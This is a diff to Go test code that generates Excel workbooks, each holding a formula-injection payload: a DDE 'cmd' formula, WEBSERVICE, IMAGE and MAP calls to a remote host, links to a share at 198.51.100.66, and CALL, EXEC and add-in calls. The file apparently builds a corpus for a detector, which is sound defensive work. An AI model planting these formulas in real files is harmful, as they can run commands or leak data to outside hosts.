@@ -58,6 +58,7 @@ func excel() []File {
 	for name, f := range map[string]string{
 		"DDE formula": `cmd|'/c ` + Marker + `'!A1`, "WEBSERVICE": `WEBSERVICE("` + remote + `")`, "IMAGE": `_xlfn.IMAGE("` + remote + `")`, "RTD": `RTD("` + Marker + `",,"a")`, "CALL": `CALL("urlmon","` + Marker + `","JJ",0)`,
 		"REGISTER.ID": `REGISTER.ID("k","` + Marker + `")`, "HYPERLINK to a share": `HYPERLINK("\\198.51.100.66\` + Marker + `","x")`, "external book": `'[` + Marker + `.xlsx]S'!A1`, "external book on a share": `'\\198.51.100.66\[` + Marker + `.xlsx]S'!A1`,
+		"WEBSERVICE handed to MAP": `_xlfn.MAP("` + remote + `",_xleta.WEBSERVICE)`, "function of a program": `_xll.` + Marker[:7] + `("` + Marker + `")`,
 		"WEBSERVICE in pieces": `1+ webservice ("` + remote + `"&amp;A1)`, "SQL.REQUEST": `SQL.REQUEST("` + Marker + `")`, "EXEC": `EXEC("` + Marker + `")`, "HYPERLINK with javascript": `HYPERLINK("javascript:` + Marker + `","x")`,
 	} {
 		out = append(out, File{Name: "表.xlsx", Technique: "formula " + name, Nesting: "bare", Body: workbook(formula(f)).bytes()})
